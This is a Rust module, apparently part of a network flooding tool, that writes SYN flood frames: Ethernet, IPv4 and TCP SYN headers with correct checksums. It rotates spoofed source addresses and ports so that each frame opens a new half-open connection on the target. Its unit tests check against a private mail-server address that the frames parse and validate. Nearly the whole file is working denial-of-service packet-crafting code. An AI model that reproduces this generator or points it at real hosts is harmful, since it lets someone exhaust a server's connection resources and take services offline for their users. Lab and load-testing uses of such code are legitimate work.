//! Crafting the SYN frames of the flood, sans-IO: Ethernet + IPv4 + TCP SYN with an MSS
//! option, checksums computed in full (IPv4 header, TCP with the pseudo-header), source
//! address and port rotating per frame so every SYN is a new half-open session.
use std::net::Ipv4Addr;

/// Ethernet 14 + IPv4 20 + TCP 24 (20 + MSS option).
pub const FRAME_LEN: usize = 58;

/// One's-complement sum of 16-bit words (odd tail padded), not yet folded/inverted.
fn sum16(data: &[u8], mut acc: u32) -> u32 {
    let mut chunks = data.chunks_exact(2);
    for c in &mut chunks {
        acc += u32::from(u16::from_be_bytes([c[0], c[1]]));
    }
    if let [b] = chunks.remainder() {
        acc += u32::from(*b) << 8;
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// The Internet checksum (RFC 1071) of `data`.
pub fn checksum(data: &[u8]) -> u16 {
    fold(sum16(data, 0))
}

/// What varies between flood frames, and what does not.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SynTemplate {
    pub src_mac: [u8; 6],
    pub dst_mac: [u8; 6],
    pub sources: Vec<Ipv4Addr>,
    pub dst: Ipv4Addr,
    pub dport: u16,
    /// Source ports used, inclusive range.
    pub sport_lo: u16,
    pub sport_hi: u16,
}

impl SynTemplate {
    /// Distinct (source address, source port) pairs before the rotation repeats.
    pub fn distinct(&self) -> u64 {
        self.sources.len() as u64 * (u64::from(self.sport_hi.saturating_sub(self.sport_lo)) + 1)
    }

    /// Source address and port of frame `i`: addresses rotate fastest, then ports.
    pub fn endpoint(&self, i: u64) -> (Ipv4Addr, u16) {
        let n = self.sources.len().max(1) as u64;
        let ports = u64::from(self.sport_hi.saturating_sub(self.sport_lo)) + 1;
        let src = self
            .sources
            .get((i % n) as usize)
            .copied()
            .unwrap_or(Ipv4Addr::UNSPECIFIED);
        let port = self.sport_lo + ((i / n) % ports) as u16;
        (src, port)
    }

    /// Writes frame `i` into `buf`.
    pub fn write(&self, i: u64, buf: &mut [u8; FRAME_LEN]) {
        let (src, sport) = self.endpoint(i);
        // Ethernet
        buf[0..6].copy_from_slice(&self.dst_mac);
        buf[6..12].copy_from_slice(&self.src_mac);
        buf[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
        // IPv4
        let ip = &mut buf[14..34];
        ip[0] = 0x45;
        ip[1] = 0;
        ip[2..4].copy_from_slice(&44u16.to_be_bytes());
        ip[4..6].copy_from_slice(&(i as u16).to_be_bytes());
        ip[6..8].copy_from_slice(&0x4000u16.to_be_bytes()); // DF
        ip[8] = 64;
        ip[9] = 6;
        ip[10..12].copy_from_slice(&[0, 0]);
        ip[12..16].copy_from_slice(&src.octets());
        ip[16..20].copy_from_slice(&self.dst.octets());
        let c = checksum(ip);
        ip[10..12].copy_from_slice(&c.to_be_bytes());
        // TCP
        let seq = (i as u32)
            .wrapping_mul(2_654_435_761)
            .wrapping_add(0x1234_5678);
        let tcp = &mut buf[34..58];
        tcp[0..2].copy_from_slice(&sport.to_be_bytes());
        tcp[2..4].copy_from_slice(&self.dport.to_be_bytes());
        tcp[4..8].copy_from_slice(&seq.to_be_bytes());
        tcp[8..12].copy_from_slice(&[0; 4]);
        tcp[12] = 6 << 4; // data offset 6 words
        tcp[13] = 0x02; // SYN
        tcp[14..16].copy_from_slice(&64_240u16.to_be_bytes());
        tcp[16..18].copy_from_slice(&[0, 0]);
        tcp[18..20].copy_from_slice(&[0, 0]);
        tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
        let mut acc = sum16(&src.octets(), 0);
        acc = sum16(&self.dst.octets(), acc);
        acc += 6 + 24; // protocol + TCP length
        acc = sum16(tcp, acc);
        let c = fold(acc);
        tcp[16..18].copy_from_slice(&c.to_be_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use etherparse::{NetSlice, SlicedPacket, TransportSlice};

    fn tpl() -> SynTemplate {
        SynTemplate {
            src_mac: [2, 0, 0, 0, 0, 1],
            dst_mac: [2, 0, 0, 0, 0, 2],
            sources: vec![
                Ipv4Addr::new(198, 51, 100, 100),
                Ipv4Addr::new(198, 51, 100, 101),
            ],
            dst: Ipv4Addr::new(172, 22, 1, 110),
            dport: 25,
            sport_lo: 41_000,
            sport_hi: 41_002,
        }
    }

    #[test]
    fn rfc1071_example() {
        // RFC 1071 §3 example bytes: sum 0xddf2, checksum !0xddf2.
        assert_eq!(
            checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]),
            !0xddf2
        );
        assert_eq!(checksum(&[0xff]), !0xff00);
    }

    #[test]
    fn rotation() {
        let t = tpl();
        assert_eq!(t.distinct(), 6);
        assert_eq!(t.endpoint(0), (Ipv4Addr::new(198, 51, 100, 100), 41_000));
        assert_eq!(t.endpoint(1), (Ipv4Addr::new(198, 51, 100, 101), 41_000));
        assert_eq!(t.endpoint(2), (Ipv4Addr::new(198, 51, 100, 100), 41_001));
        assert_eq!(t.endpoint(6), t.endpoint(0));
    }

    #[test]
    fn frames_parse_with_valid_checksums() {
        let t = tpl();
        let mut buf = [0u8; FRAME_LEN];
        for i in 0..50 {
            t.write(i, &mut buf);
            let p = SlicedPacket::from_ethernet(&buf).unwrap();
            let Some(NetSlice::Ipv4(ip)) = p.net else {
                panic!("not ipv4")
            };
            let h = ip.header().to_header();
            assert_eq!(h.header_checksum, h.calc_header_checksum());
            let Some(TransportSlice::Tcp(tcp)) = p.transport else {
                panic!("not tcp")
            };
            assert!(tcp.syn() && !tcp.ack());
            assert_eq!(tcp.destination_port(), 25);
            let th = tcp.to_header();
            assert_eq!(th.checksum, th.calc_checksum_ipv4(&h, &[]).unwrap());
            assert_eq!((Ipv4Addr::from(h.source), tcp.source_port()), t.endpoint(i));
        }
    }
}
